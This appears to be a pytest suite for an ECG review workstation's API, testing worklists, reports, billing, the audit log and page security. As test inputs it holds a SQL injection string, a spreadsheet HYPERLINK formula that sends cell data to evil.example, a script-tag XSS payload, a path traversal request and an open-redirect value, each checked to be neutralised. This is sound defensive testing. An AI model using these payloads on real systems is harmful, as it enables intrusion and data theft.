"""The review workstation's API (issue 13) on SQLite and PostgreSQL: the role's worklist (counts, search,
filters; the searched text is never logged), the overview, template beats and multi-template relabel, the
strip selection and the report that uses exactly it, the inline PDF, the billing data, role changes, the
audit log's filters, and the pages' login redirect, role refusal and escaping."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import schemathesis
from service_builders import PIN, STUDY, Api, upload
from sqlalchemy import select

from ecgdesk.store.models import AuditEntry


def _analysed_study(api: Api, tiny_files: list[Path], **changes: Any) -> int:
    headers = api.login("tech.t")
    body = {**STUDY, **changes}
    study_id = int(api.client.post("/api/v1/studies", json=body, headers=headers).json()["id"])
    assert upload(api, study_id, tiny_files).status_code == 202
    api.wait()
    assert api.client.get(f"/api/v1/studies/{study_id}").json()["status"] == "analyzed"
    return study_id


def test_worklist_by_role_with_counts_search_and_filters(api: Api) -> None:
    headers = api.login("tech.t")
    names = ["Doe, Jane", "Smith, 100% O'Hara", "Roe, Richard"]
    for i, name in enumerate(names):
        body = {**STUDY, "patient_id": f"MRN-{i}", "name": name}
        assert api.client.post("/api/v1/studies", json=body, headers=headers).status_code == 201
    page = api.client.post("/api/v1/worklist", json={}, headers=headers).json()
    assert page["default_statuses"] == ["ordered", "recorded", "analyzed"] and page["total"] == 3
    assert page["counts"]["ordered"] == 3 and page["counts"]["reported"] == 0
    found = api.client.post("/api/v1/worklist", json={"search": "o'hara"}, headers=headers).json()
    assert [r["patient_name"] for r in found["items"]] == ["Smith, 100% O'Hara"]
    assert api.client.post("/api/v1/worklist", json={"search": "%"}, headers=headers).json()["total"] == 1
    assert api.client.post("/api/v1/worklist", json={"search": "mrn-2"}, headers=headers).json()["total"] == 1
    assert (
        api.client.post("/api/v1/worklist", json={"search": "' OR 1=1 --"}, headers=headers).json()["total"]
        == 0
    )
    assert (
        api.client.post("/api/v1/worklist", json={"service": "stress_test"}, headers=headers).json()["total"]
        == 0
    )
    bad = api.client.post("/api/v1/worklist", json={"service": "x-ray"}, headers=headers)
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["service"]
    bad = api.client.post("/api/v1/worklist", json={"statuses": ["lost"]}, headers=headers)
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"][:2] == ["body", "statuses"]
    headers = api.login("dr.t")
    page = api.client.post("/api/v1/worklist", json={}, headers=headers).json()
    assert page["default_statuses"] == ["reported"] and page["items"] == []
    everything = api.client.post("/api/v1/worklist", json={"statuses": []}, headers=headers).json()
    assert everything["total"] == 3
    with api.store.transaction() as session:
        logged = [
            e.after_json
            for e in session.scalars(select(AuditEntry).where(AuditEntry.action == "read:worklist"))
        ]
    assert logged and not any("hara" in text.lower() for text in logged)  # what was searched is not logged


def test_urgent_orders_come_first_on_the_worklist(api: Api) -> None:
    """A STAT or ASAP order is listed before routine ones, shows its priority, and a priority outside the
    four is refused naming the field."""
    headers = api.login("tech.t")
    ids = {}
    for i, priority in enumerate(["routine", "stat", "routine", "asap"]):
        body = {**STUDY, "patient_id": f"MRN-{i}", "name": f"Doe, Pat{i}", "priority": priority}
        answer = api.client.post("/api/v1/studies", json=body, headers=headers)
        assert answer.status_code == 201
        ids[i] = answer.json()["id"]
    page = api.client.post("/api/v1/worklist", json={}, headers=headers).json()
    assert [r["id"] for r in page["items"]] == [ids[1], ids[3], ids[2], ids[0]]
    assert [r["priority"] for r in page["items"]] == ["stat", "asap", "routine", "routine"]
    assert api.client.get(f"/api/v1/studies/{ids[1]}").json()["order"]["priority"] == "stat"
    listed = api.client.get("/api/v1/studies", headers=headers).json()["items"]
    assert {r["id"]: r["priority"] for r in listed}[ids[3]] == "asap"
    bad = api.client.post("/api/v1/studies", json={**STUDY, "priority": "whenever"}, headers=headers)
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["body", "priority"]


def test_a_comment_saved_meanwhile_is_a_409_not_overwritten(api: Api, tiny_files: list[Path]) -> None:
    """Two technicians with the study open: the second save names the text it started from (``base``)
    and is refused with 409 when the first saved meanwhile; nothing is overwritten."""
    study_id = _analysed_study(api, tiny_files)
    headers = api.csrf
    url = f"/api/v1/studies/{study_id}/comment"
    saved = api.client.post(url, json={"text": "Patch off 2 h.", "base": ""}, headers=headers)
    assert saved.status_code == 200
    late = api.client.post(url, json={"text": "Dizzy at 14:00.", "base": ""}, headers=headers)
    assert late.status_code == 409 and late.json()["detail"][0]["loc"] == [f"study {study_id}", "base"]
    assert "reload" in late.json()["detail"][0]["msg"]
    with api.store.transaction() as session:
        comments = [e.after_json for e in session.scalars(
            select(AuditEntry).where(AuditEntry.action == "study:comment"))]
    assert len(comments) == 1 and "Patch off" in comments[0]


def test_overview_templates_relabel_and_strips(api: Api, tiny_files: list[Path]) -> None:
    study_id = _analysed_study(api, tiny_files)
    headers = api.csrf
    view = api.client.get(f"/api/v1/studies/{study_id}/overview").json()
    assert view["kind"] == "scanning" and view["trend_bpm"] and view["leads"] == ["ECG"]
    assert any(s["title"] == "Heart rate" for s in view["sections"])
    before = view["beats_by_class"]
    beats = api.client.get(f"/api/v1/studies/{study_id}/templates", params={"per_template": 5}).json()
    first = beats["templates"][0]
    assert first["n_beats"] > 50 and 1 <= len(first["beats_uv"]) <= 5
    assert len(first["beats_uv"][0]) == round(0.25 * beats["fs"]) + round(0.45 * beats["fs"])
    # Each template's beats by their own label, which with the beats in no template add up to the study's
    # counts: a template groups by shape, a label can differ from its template's (an early N-shaped beat: S).
    for t in beats["templates"]:
        assert sum(t["beats_by_label"].values()) == t["n_beats"], t["beats_by_label"]
    added: dict[str, int] = dict(beats["outside_templates"])
    for t in beats["templates"]:
        for label, n in t["beats_by_label"].items():
            added[label] = added.get(label, 0) + n
    assert added == beats["beats_by_label"] == {k: v for k, v in before.items() if v}, (added, before)
    assert (
        api.client.get(f"/api/v1/studies/{study_id}/templates", params={"per_template": 99}).status_code
        == 422
    )
    ids = [t["template_id"] for t in beats["templates"]]
    answer = api.client.post(
        f"/api/v1/studies/{study_id}/template-edits",
        json={"templates": ids, "label": "V", "base_run": beats["run_id"]}, headers=headers,
    )
    assert answer.status_code == 200 and not answer.json()["reused"], answer.text
    # A page still showing the run before that edit (another technician's) names it: 409, nothing changed,
    # where before its edit was made current over this one, undoing it without a word.
    for url, body in (("template-edits", {"templates": ids[:1], "label": "N"}),
                      ("beat-edits", {"kind": "beat", "target": 0, "label": "N"})):
        stale = api.client.post(
            f"/api/v1/studies/{study_id}/{url}", json={**body, "base_run": beats["run_id"]}, headers=headers
        )
        assert stale.status_code == 409, stale.text
        detail = stale.json()["detail"][0]
        assert detail["loc"] == [f"study {study_id}", "base_run"], detail
        assert f"run {answer.json()['run_id']} (an edit by tech.t" in detail["msg"], detail
        assert "reload" in detail["msg"]
    after = api.client.get(f"/api/v1/studies/{study_id}/overview").json()["beats_by_class"]
    assert after["V"] == sum(t["n_beats"] for t in beats["templates"]) and after["V"] > before.get("V", 0)
    bad = api.client.post(
        f"/api/v1/studies/{study_id}/template-edits", json={"templates": [999], "label": "N"}, headers=headers
    )
    assert bad.status_code == 422 and "no template 999" in bad.json()["detail"][0]["msg"]
    empty = api.client.post(
        f"/api/v1/studies/{study_id}/template-edits", json={"templates": [], "label": "N"}, headers=headers
    )
    assert empty.status_code == 422

    strips = api.client.get(f"/api/v1/studies/{study_id}/strips").json()
    assert not strips["customised"] and strips["editable"]
    added = api.client.post(
        f"/api/v1/studies/{study_id}/strips", json={"start_s": 30, "caption": "Rest"}, headers=headers
    )
    assert added.status_code == 201 and added.json()["customised"]
    manual = [i for i in added.json()["items"] if i["kind"] == "manual"]
    assert manual == [dict(manual[0], title="Rest", start_s=30.0, included=True)]
    for body, field in (
        ({"start_s": 9999, "caption": "x"}, "start_s"),
        ({"start_s": 1, "caption": " "}, "caption"),
    ):
        answer = api.client.post(f"/api/v1/studies/{study_id}/strips", json=body, headers=headers)
        assert answer.status_code == 422 and answer.json()["detail"][0]["loc"][-1] == field, answer.text
    unknown = api.client.put(
        f"/api/v1/studies/{study_id}/strips", json={"key": "event:none", "included": False}, headers=headers
    )
    assert unknown.status_code == 404
    proposed = [i for i in strips["items"] if i["kind"] != "manual"]
    for item in proposed:
        answer = api.client.put(
            f"/api/v1/studies/{study_id}/strips",
            json={"key": item["key"], "included": False},
            headers=headers,
        )
        assert answer.status_code == 200
    rendered = api.client.post(f"/api/v1/studies/{study_id}/report", headers=headers)
    assert rendered.status_code == 200, rendered.text
    html = Path(api.client.get(f"/api/v1/studies/{study_id}").json()["reports"][-1]["html"]).read_text(
        "utf-8"
    )
    assert "Rest" in html and "Strip selected on the workstation" in html
    for item in proposed:  # left out: their titles are no longer strip captions
        assert f">{item['title']}<" not in html
    removed = api.client.post(
        f"/api/v1/studies/{study_id}/strips/remove", json={"key": manual[0]["key"]}, headers=headers
    )
    assert removed.status_code == 200 and not [i for i in removed.json()["items"] if i["kind"] == "manual"]
    refused = (
        api.client.post(
            f"/api/v1/studies/{study_id}/strips/remove", json={"key": proposed[0]["key"]}, headers=headers
        )
        if proposed
        else None
    )
    assert refused is None or refused.status_code == 422
    preview = api.client.get(f"/api/v1/studies/{study_id}/report/preview.pdf")
    assert preview.status_code == 200 and preview.headers["content-disposition"].startswith("inline")
    assert preview.headers["x-report-signed"] == "false" and preview.content.startswith(b"%PDF")


def test_signing_freezes_the_strips_and_the_billing_page(api: Api, tiny_files: list[Path]) -> None:
    study_id = _analysed_study(api, tiny_files)
    headers = api.login("dr.t")
    assert (
        api.client.post(
            f"/api/v1/studies/{study_id}/interpretation", json={"text": "Sinus."}, headers=headers
        ).status_code
        == 200
    )
    # A strip chosen after the review changes the report: the signature is refused until reviewed again.
    added = api.client.post(
        f"/api/v1/studies/{study_id}/strips", json={"start_s": 10, "caption": "Late"}, headers=headers
    )
    assert added.status_code == 201
    refused = api.client.post(f"/api/v1/studies/{study_id}/sign", json={"password": PIN}, headers=headers)
    assert refused.status_code == 409 and "changed" in refused.json()["detail"][0]["msg"]
    assert (
        api.client.post(
            f"/api/v1/studies/{study_id}/interpretation", json={"text": "Sinus."}, headers=headers
        ).status_code
        == 200
    )
    assert (
        api.client.post(
            f"/api/v1/studies/{study_id}/sign", json={"password": PIN}, headers=headers
        ).status_code
        == 200
    )
    frozen = api.client.post(
        f"/api/v1/studies/{study_id}/strips", json={"start_s": 20, "caption": "x"}, headers=headers
    )
    assert frozen.status_code == 409
    assert api.client.get(f"/api/v1/studies/{study_id}/strips").json()["editable"] is False
    headers = api.login("biller.t")
    view = api.client.get(f"/api/v1/studies/{study_id}/billing").json()
    assert view["signed"] and view["can_code"] and not view["codes"] and view["facts"]["recorded_hours"] > 0
    assert api.client.post(f"/api/v1/studies/{study_id}/coding", headers=headers).status_code == 200
    view = api.client.get(f"/api/v1/studies/{study_id}/billing").json()
    assert view["codes"] and view["explanations"] and view["can_bill"]
    # the distinct-service mark over HTTP: bad input 422 naming the field, shown on the page, removable
    distinct = f"/api/v1/studies/{study_id}/distinct"
    bad = api.client.put(distinct, json={"modifier": "XU", "reason": "a\tb"}, headers=headers)
    assert bad.status_code == 422 and "reason" in bad.text
    mark = {"modifier": "xs", "reason": "separate order <b>at 10:05</b>"}
    assert api.client.put(distinct, json=mark, headers=headers).json()["modifier"] == "XS"
    assert api.client.get(f"/api/v1/studies/{study_id}/billing").json()["distinct"]["modifier"] == "XS"
    page = api.client.get(f"/studies/{study_id}/billing").text
    assert "XS: separate order &lt;b&gt;at 10:05&lt;/b&gt; (marked by biller.t " in page
    # the study's own view has it with who and when (until 2026-12-07 the billing page alone), and the
    # physician who read the study may mark it (another physician may not: the workflow's tests)
    shown = api.client.get(f"/api/v1/studies/{study_id}").json()["distinct"]
    assert (shown["modifier"], shown["marked_by"]) == ("XS", "biller.t") and shown["marked_at"]
    reader = api.login("dr.t")
    marked = api.client.put(distinct, json={"modifier": "XU", "reason": "own order"}, headers=reader)
    assert marked.status_code == 200, marked.text
    headers = api.login("biller.t")
    assert api.client.delete(distinct, headers=headers).status_code == 200
    assert api.client.delete(distinct, headers=headers).status_code == 422
    with api.store.transaction() as session:
        reads = session.scalars(select(AuditEntry.actor).where(AuditEntry.action == "read:billing")).all()
    assert "biller.t" in reads
    # The study's detail embeds its coding (facts, codes, the claim, the scrubber's findings) for billers
    # only: by the permission table a study's coding is study:billing and its claim claim:read, both B.
    for path in (f"/api/v1/studies/{study_id}", f"/api/v1/studies/{study_id}/overview"):
        for reader, shown in (("biller.t", True), ("tech.t", False), ("dr.t", False)):
            api.login(reader)
            answer = api.client.get(path)
            assert answer.status_code == 200, answer.text
            study = answer.json().get("study", answer.json())
            assert study["status"] == "coded" and (study["coding"] is not None) is shown, (path, reader)
            if shown:
                assert study["coding"]["claim"]["lines"] and study["coding"]["facts"]["recorded_hours"] > 0


def test_role_change_and_audit_filters(api: Api) -> None:
    headers = api.login("admin.t")
    answer = api.client.put("/api/v1/users/biller.t/role", json={"role": "technician"}, headers=headers)
    assert answer.status_code == 200 and answer.json()["role"] == "technician"
    no_npi = api.client.put("/api/v1/users/biller.t/role", json={"role": "physician"}, headers=headers)
    assert no_npi.status_code == 422 and "NPI" in no_npi.json()["detail"][0]["msg"]
    myself = api.client.put("/api/v1/users/admin.t/role", json={"role": "biller"}, headers=headers)
    assert myself.status_code == 422
    assert (
        api.client.put("/api/v1/users/nobody/role", json={"role": "biller"}, headers=headers).status_code
        == 404
    )
    page = api.client.get("/admin/audit", params={"user": "admin.t", "action": "user:role"})
    assert page.status_code == 200 and "user:role" in page.text and "technician" in page.text
    bad = api.client.get("/admin/audit", params={"since": "last week"})
    assert bad.status_code == 200 and "since: use an ISO date" in bad.text


def test_audit_viewer_shows_before_and_after_finds_a_patient_and_exports_csv(api: Api) -> None:
    """The audit viewer as an administrator uses it (review-ui.md section 1, Scribe's audit viewer; 21 CFR
    11.10(e)): a change shows its prior value next to the new one; the rows about one patient (by the
    patient's identifier, across their studies) can be found; the selection exports as CSV and the export
    is itself a row of the log."""
    headers = api.login("tech.t")
    mine = api.client.post("/api/v1/studies", json={**STUDY, "patient_id": "MRN-A1"}, headers=headers)
    other = api.client.post(
        "/api/v1/studies", json={**STUDY, "patient_id": "MRN-B2", "name": "Roe, Rita"}, headers=headers
    )
    mine_id, other_id = mine.json()["id"], other.json()["id"]
    api.client.get(f"/api/v1/studies/{mine_id}")
    api.client.get(f"/api/v1/studies/{other_id}")
    # anybody's failed login is a row naming what they typed: a spreadsheet formula (CSV injection)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    api.client.post("/api/v1/session", json={"username": formula, "password": "x"})
    headers = api.login("admin.t")
    changed = api.client.put("/api/v1/users/biller.t/role", json={"role": "technician"}, headers=headers)
    assert changed.is_success
    page = api.client.get("/admin/audit", params={"action": "user:role"})
    before = page.text.split('class="detail before">')[1].split("</td>")[0]
    after = page.text.split('class="detail after">')[1].split("</td>")[0]
    assert "biller" in before and "technician" in after
    page = api.client.get("/admin/audit", params={"patient": "MRN-A1"})
    assert page.status_code == 200
    rows = page.text.split("<tbody>")[1].split("</tbody>")[0]
    assert f"study {mine_id}<" in rows and "read:study" in rows and f"study {other_id}<" not in rows
    assert 'href="/admin/audit.csv?patient=MRN-A1"' in page.text
    export = api.client.get("/admin/audit.csv", params={"patient": "MRN-A1"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    assert "attachment" in export.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(export.text)))
    assert table and {r["entity_id"] for r in table} == {str(mine_id)}
    assert any(r["action"] == "read:study" and r["actor"] == "tech.t" for r in table)
    with api.store.transaction() as session:
        exported = session.scalars(select(AuditEntry).where(AuditEntry.action == "read:audit-export")).one()
    assert exported.actor == "admin.t"
    assert json.loads(exported.after_json) == {"patient": "MRN-A1", "rows": len(table), "format": "csv"}
    assert api.client.get("/admin/audit.csv", params={"since": "soon"}).status_code in (409, 422)
    # Until 2026-12-07 written as typed: the administrator's spreadsheet ran it. A cell starting with = + - @
    # (or a tab or CR) is written with a leading ' (OWASP CSV injection), shown as text, not run.
    refused = api.client.get("/admin/audit.csv", params={"action": "auth:refused"}).text
    (row,) = [r for r in csv.DictReader(io.StringIO(refused)) if "HYPERLINK" in r["actor"]]
    assert row["actor"] == "'" + formula and row["entity_id"] == "'" + formula[:40], row
    api.login("dr.t")
    assert api.client.get("/admin/audit.csv").status_code == 403


def test_pages_redirect_refuse_and_escape(api: Api, tiny_files: list[Path]) -> None:
    study_id = _analysed_study(api, tiny_files, name="<script>alert(1)</script> O'Brien")
    api.client.cookies.clear()
    answer = api.client.get(f"/studies/{study_id}/viewer", follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"].startswith("/login?next=/studies/")
    api.login("tech.t")
    page = api.client.get(f"/studies/{study_id}")
    assert page.status_code == 200 and "Content-Security-Policy" in page.headers
    assert (
        "<script>alert(1)</script>" not in page.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    )
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert "http://" not in page.text.replace("http://www.w3.org", "") and "https://" not in page.text
    assert api.client.get("/studies/99/viewer").status_code == 404
    api.login("admin.t")
    refused = api.client.get(f"/studies/{study_id}")
    assert refused.status_code == 403 and "study:read" in refused.text
    assert api.client.get("/static/ws.js").headers["content-type"].startswith("text/javascript")
    assert api.client.get("/static/..%2Fapp.py").status_code == 404
    assert api.client.get("/static/nothing.js").status_code == 404
    form = api.client.post("/login", data={"username": "tech.t", "password": "bad"}, follow_redirects=False)
    assert form.status_code == 401 and "field-error" in form.text
    form = api.client.post(
        "/login",
        data={"username": "tech.t", "password": PIN, "next": "//evil.example/x"},
        follow_redirects=False,
    )
    assert form.status_code == 303 and form.headers["location"] == "/worklist"
    # login CSRF: another site's form (or a sandboxed one, Origin null) signs nobody in
    for origin in ("https://evil.example", "null"):
        api.client.cookies.clear()
        form = api.client.post("/login", data={"username": "tech.t", "password": PIN},
                               headers={"Origin": origin}, follow_redirects=False)
        assert form.status_code == 403 and "set-cookie" not in form.headers, origin


def test_static_names_too_long_for_the_file_system_are_404(api: Api) -> None:
    for name in ("a" * 300 + ".js", "a" * 5000 + ".css"):
        answer = api.client.get(f"/static/{name}")
        assert answer.status_code == 404 and answer.text == "not found"
    assert api.client.get("/static/ws.css").status_code == 200


def test_the_users_page_is_paged(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """The accounts page listed every account of the database on one page."""
    from ecgdesk.service.routers import admin_pages

    monkeypatch.setattr(admin_pages, "PAGE", 3)
    api.login("admin.t")
    first = api.client.get("/admin/users")
    people = ("admin.t", "tech.t", "dr.t", "biller.t")
    shown = [name for name in people if f'data-username="{name}"' in first.text]
    assert shown == ["admin.t", "tech.t", "dr.t"] and "Rows 1–3 of 4" in first.text
    assert 'href="/admin/users?offset=3"' in first.text
    second = api.client.get("/admin/users?offset=3")
    assert 'data-username="biller.t"' in second.text and 'data-username="admin.t"' not in second.text
    assert 'href="/admin/users"' in second.text and "Rows 4–4 of 4" in second.text
    # past the end (an old link, a hand-typed offset): the last page, not an empty list
    past = api.client.get("/admin/users?offset=7", follow_redirects=False)
    assert past.status_code == 303 and past.headers["location"] == "/admin/users?offset=3"


def test_worklist_overview_and_billing_times_carry_their_zone(api: Api, tiny_files: list[Path]) -> None:
    """/openapi.json says date-time (RFC 3339, with an offset), yet on SQLite the worklist's and the
    overview's recording_start and the billing view's coded_at came without one ("2026-11-02T09:00:00"),
    unlike every other time of the API (found by a long schemathesis run): each now answers in UTC like the
    study detail's recording start."""
    study_id = _analysed_study(api, tiny_files)
    headers = api.login("dr.t")
    base = f"/api/v1/studies/{study_id}"
    assert api.client.post(f"{base}/interpretation", json={"text": "Sinus."}, headers=headers).is_success
    assert api.client.post(f"{base}/sign", json={"password": PIN}, headers=headers).is_success
    headers = api.login("biller.t")
    assert api.client.post(f"{base}/coding", headers=headers).status_code == 200
    document = schemathesis.openapi.from_dict(api.app.openapi())
    detail = api.client.get(base).json()["recording"]["start_time"]
    answers = {
        ("POST", "/api/v1/worklist"): api.client.post("/api/v1/worklist", json={}, headers=headers),
        ("GET", "/api/v1/studies/{study_id}/overview"): api.client.get(f"{base}/overview"),
        ("GET", "/api/v1/studies/{study_id}/billing"): api.client.get(f"{base}/billing"),
    }
    for (method, path), answer in answers.items():
        assert answer.status_code == 200, (path, answer.text)
        document[path][method].validate_response(answer)
    times = (
        answers["POST", "/api/v1/worklist"].json()["items"][0]["recording_start"],
        answers["GET", "/api/v1/studies/{study_id}/overview"].json()["recording_start"],
    )
    assert times == (detail, detail) and detail.endswith(("Z", "+00:00")), (times, detail)
    coded_at = answers["GET", "/api/v1/studies/{study_id}/billing"].json()["coded_at"]
    assert coded_at.endswith(("Z", "+00:00")), coded_at


def test_the_audit_log_keeps_each_time_on_one_line(api: Api) -> None:
    """At 1024 px the 'When (UTC)' cell broke between the date and the time (a two-line row per entry),
    unlike every other UTC time on the workstation: it is a 'when' cell (no wrap) now."""
    api.login("admin.t")
    page = api.client.get("/admin/audit").text
    rows = page.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]
    assert rows and all(row.split("</td>", 2)[1].startswith('<td class="when">') for row in rows), rows[0]
